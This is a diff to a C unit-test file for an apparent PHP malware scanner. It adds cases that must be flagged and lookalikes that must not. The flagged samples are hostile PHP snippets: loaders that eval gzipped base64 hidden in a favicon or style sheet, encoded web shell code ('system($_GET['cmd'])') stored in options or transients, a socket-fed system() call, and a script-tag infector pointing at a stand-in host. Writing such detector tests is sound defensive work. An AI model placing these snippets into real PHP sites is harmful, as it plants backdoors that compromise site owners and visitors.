@@ -40,6 +40,9 @@ static void test_second_file_decoded(void **state)
 	(void)state;
 	expect("<?php $p = file_get_contents(__DIR__ . '/favicon.ico');\n"
 	       "eval(gzinflate(base64_decode($p)));",
+	       "php.image_payload_eval", HS_SEV_HIGH);
+	expect("<?php $p = file_get_contents(__DIR__ . '/assets/theme.min.css');\n"
+	       "eval(gzinflate(base64_decode(substr($p, strrpos($p, '/*@') + 3))));",
 	       "php.decoded_file_eval", HS_SEV_HIGH);
 	expect("<?php $d = @file_get_contents(dirname(__FILE__) . '/.cache.dat');\n"
 	       "if ($d) { $f = base64_decode(strrev($d)); eval($f); }",
@@ -129,6 +132,29 @@ static void test_image_payload(void **state)
 	/* an image shown inline, as a data: URL */
 	quiet("<?php $png = file_get_contents(__DIR__ . '/logo.png');\n"
 	      "echo '<img src=\"data:image/png;base64,' . base64_encode($png) . '\">';");
+}
+
+/* The writer of a two-file pair, a sample of its own: code it decoded
+ * (no open tag: the reader evals it) stored in a file, an option or a
+ * transient, maybe base64_encode()d again; decoded data that is not code
+ * (settings, a style sheet) is not that. */
+static void test_store_writer(void **state)
+{
+	(void)state;
+	expect("<?php $b = base64_decode('QHN5c3RlbSgkX0dFVFsnY21kJ10pOw==');\n"
+	       "set_transient('feed_x', $b, 3600);",
+	       "php.stored_code_drop", HS_SEV_HIGH);
+	expect(
+	    "<?php $c = gzinflate(base64_decode('y0zTyCwuTi3RUIkP8A8OiVbPVo/V1KxOLUvMQRGyrgUA'));\n"
+	    "@file_put_contents(__DIR__ . '/.cache.dat', base64_encode($c));",
+	    "php.stored_code_drop", HS_SEV_HIGH);
+	expect("<?php update_option('_site_k', "
+	       "str_rot13(str_rot13(base64_decode('QHN5c3RlbSgkX0dFVFsnY21kJ10pOw=='))));",
+	       "php.stored_code_drop", HS_SEV_HIGH);
+	quiet("<?php update_option('acme_defaults', "
+	      "base64_decode('eyJjb2xvciI6InJlZCIsInNpemUiOjEyfQ=='));");
+	quiet("<?php set_transient('acme_css', "
+	      "base64_decode('Ym9keXtjb2xvcjpyZWR9IC54e2Rpc3BsYXk6bm9uZX0='), 600);");
 }
 
 /* What applications read from their files and never run. */
@@ -280,7 +306,8 @@ static void test_through_analyze(void **state)
 	    {"<?php $e = exif_read_data('a.jpg'); eval($e['Model']);", "php.image_payload_eval"},
 	    {"<?php $o = get_transient('x'); eval(base64_decode($o));", "php.decoded_file_eval"},
 	    {"<?php $s = fsockopen('198.51.100.7', 80); system(fgets($s));", "php.remote_command"},
-	    {"<?php foreach (glob('*/index.php') as $f) file_put_contents($f, '<script src=x>' . "
+	    {"<?php foreach (glob('*/index.php') as $f) file_put_contents($f, '<script "
+	     "src=https://x.example/a.js></script>' . "
 	     "file_get_contents($f));",
 	     "php.mass_infector"},
 	};
@@ -308,6 +335,7 @@ int main(void)
 	    cmocka_unit_test(test_infector_lookalikes),
 	    cmocka_unit_test(test_remote_commands),
 	    cmocka_unit_test(test_through_analyze),
+	    cmocka_unit_test(test_store_writer),
 	};
 	int rc = cmocka_run_group_tests(tests, NULL, NULL);
 	php_result_free(&res);
